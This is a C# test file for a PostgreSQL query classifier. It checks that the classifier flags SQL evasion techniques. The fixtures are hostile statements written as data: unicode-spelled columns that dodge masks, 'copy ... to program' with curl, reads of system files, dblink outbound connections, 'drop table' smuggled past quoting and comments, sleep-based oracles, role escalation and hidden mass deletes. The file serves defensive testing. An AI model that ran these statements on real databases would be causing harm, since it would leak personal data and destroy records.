using System.Text;
using HoopWire.Policy;
using HoopWire.Postgres.Sql;

namespace HoopWire.Postgres.Tests.Sql;

/// <summary>Ways round masks and blocks that a text alone shows. Each stands for a class.</summary>
public class EvasionTests
{
    [Theory]
    [InlineData("select ssn \"email\" from users")]
    [InlineData("select \"ssn\" as \"email\" from users")]
    [InlineData("select U&\"\\0073sn\" from users")]
    [InlineData("select u&\"\\+000073SN\", SsN from users")]
    public void Classify_AliasOrSpelling_StillMentionsTheColumn(string sql) => Assert.True(Facts.Of(sql).Mentions("ssn"));

    [Theory]
    [InlineData(Effects.Opaque, "select query_to_xml('select ssn from users', true, true, '')")]
    [InlineData(Effects.Opaque, "select table_to_xml('users', true, true, '')")]
    [InlineData(Effects.Opaque, "select cursor_to_xml('c', 10, true, true, '')")]
    [InlineData(Effects.Copy, "copy users to stdout (format binary)")]
    [InlineData(Effects.Copy, "prepare p as select 1; copy (select * from users) to stdout csv")]
    [InlineData(Effects.File, "copy users to '/tmp/x'")]
    [InlineData(Effects.File, "copy users to program 'curl http://x'")]
    [InlineData(Effects.Read, "declare c binary cursor for select ssn from users; fetch all from c")]
    [InlineData(Effects.Listen, "select pg_notify('c', ssn) from users")]
    [InlineData(Effects.Session, "select set_config('application_name', ssn, false) from users")]
    [InlineData(Effects.Opaque, "select lo_get(lo_from_bytea(0, ssn::bytea)) from users")]
    [InlineData(Effects.Opaque, "do $$begin raise notice '%', (select ssn from users limit 1); end$$")]
    [InlineData(Effects.Opaque, "create function pg_temp.f() returns text language sql as $$select ssn from users$$")]
    [InlineData(Effects.Opaque, "create operator === (procedure = texteq, leftarg = text, rightarg = text)")]
    [InlineData(Effects.Opaque, "create rule r as on select to x do instead select * from users")]
    [InlineData(Effects.Opaque, "create policy p on x using (leak(ssn))")]
    [InlineData(Effects.Opaque, "create cast (text as mytype) with function f(text)")]
    [InlineData(Effects.Net, "select * from dblink('host=x', 'select 1') as t(a int)")]
    [InlineData(Effects.Net, "create server s foreign data wrapper postgres_fdw options (host 'x')")]
    [InlineData(Effects.Net, "create subscription s connection 'host=x' publication p")]
    [InlineData(Effects.Replication, "START_REPLICATION SLOT s LOGICAL 0/0")]
    [InlineData(Effects.File, "select pg_read_binary_file('base/1/1259')")]
    [InlineData(Effects.File, "select * from heap_page_items(get_raw_page('users', 0))")]
    [InlineData(Effects.Delay, "select case when ssn like '1%' then pg_sleep(5) end from users")]
    [InlineData(Effects.SetRole, "set role postgres")]
    [InlineData(Effects.SetRole, "set session authorization postgres")]
    [InlineData(Effects.Session, "set search_path = evil, pg_catalog")]
    public void Classify_Attack_ShowsItsEffect(Effects effect, string sql)
    {
        var facts = Facts.Of(sql);

        Assert.True(facts.Complete, facts.IncompleteReason);
        Assert.True(facts.Effects.HasFlag(effect), EffectNames.Format(facts.Effects));
    }

    [Theory]
    [InlineData("explain (analyze, verbose) select ssn || '' from users where ssn > '1'")]
    [InlineData("select 1 / (case when ssn = '1' then 0 else 1 end) from users")]
    [InlineData("select ssn::date from users")]
    [InlineData("select xmlforest(ssn) from users")]
    [InlineData("select lag(ssn) over () from users")]
    public void Classify_Oracle_UsesTheColumn(string sql) => Assert.True(Facts.Of(sql).Uses("ssn"));

    [Theory]
    [InlineData("select $x$ $x$; drop table users; --$x$")]
    [InlineData("select E'\\\\'; drop table users; --'")]
    [InlineData("select '\\'; drop table users; --'")]
    [InlineData("select 1 /* /* */ */; drop table users; /* */")]
    [InlineData("select 'a' --'\n; drop table users; --'")]
    [InlineData("select 1 --\r; drop table users")]
    public void Classify_HiddenStatement_IsSeen(string sql)
    {
        var facts = Facts.Of(sql);

        Assert.True(facts.Effects.HasFlag(Effects.Ddl | Effects.Multi), facts.IncompleteReason);
    }

    [Theory]
    [InlineData("select 1\0; drop table users")]
    [InlineData("select '\u0000'")]
    public void Classify_TextAfterZeroByte_IsIncomplete(string sql) => Assert.False(Facts.Of(sql).Complete);

    [Fact]
    public void Classify_TrailByteInAnotherEncoding_IsIncomplete()
    {
        byte[] sjis = [.. "select '"u8, 0x95, 0x5C, .. "'; drop table users; --'"u8];

        Assert.False(PostgresClassifier.Classify(sjis, new LexicalSettings(true, Utf8ClientEncoding: false)).Complete);
        Assert.False(PostgresClassifier.Classify(sjis, LexicalSettings.Default).Complete);
    }

    [Fact]
    public void Classify_Homoglyph_IsAnotherName()
    {
        var facts = PostgresClassifier.Classify(Encoding.UTF8.GetBytes("select \u0455sn from users"), LexicalSettings.Default);

        Assert.True(facts.Complete);
        Assert.False(facts.Mentions("ssn"));
    }

    [Theory]
    [InlineData("with d as (delete from users returning *) select count(*) from d")]
    [InlineData("select 1 where false; with d as (update users set a = 1 returning *) table d")]
    [InlineData("merge into users u using (select 1) s on true when matched then delete")]
    [InlineData("explain analyze delete from users")]
    [InlineData("explain (format json, analyze on) update users set a = 1")]
    [InlineData("copy (delete from users returning *) to stdout")]
    [InlineData("prepare p as delete from users")]
    [InlineData("create table x as with d as (delete from users returning *) select * from d")]
    [InlineData("insert into x with d as (delete from users returning *) select * from d")]
    [InlineData("delete from users where 1=1")]
    [InlineData("delete from users where id = id")]
    [InlineData("update users set a = 1 where id in (select id from users limit 1)")]
    [InlineData("delete from users u using users v where u.id = v.id")]
    public void Classify_HiddenUnboundedWrite_IsSeen(string sql)
    {
        var facts = Facts.Of(sql);

        Assert.True(facts.Complete, facts.IncompleteReason);
        Assert.True(facts.Effects.HasFlag(Effects.Write | Effects.UnboundedWrite), EffectNames.Format(facts.Effects));
    }
}
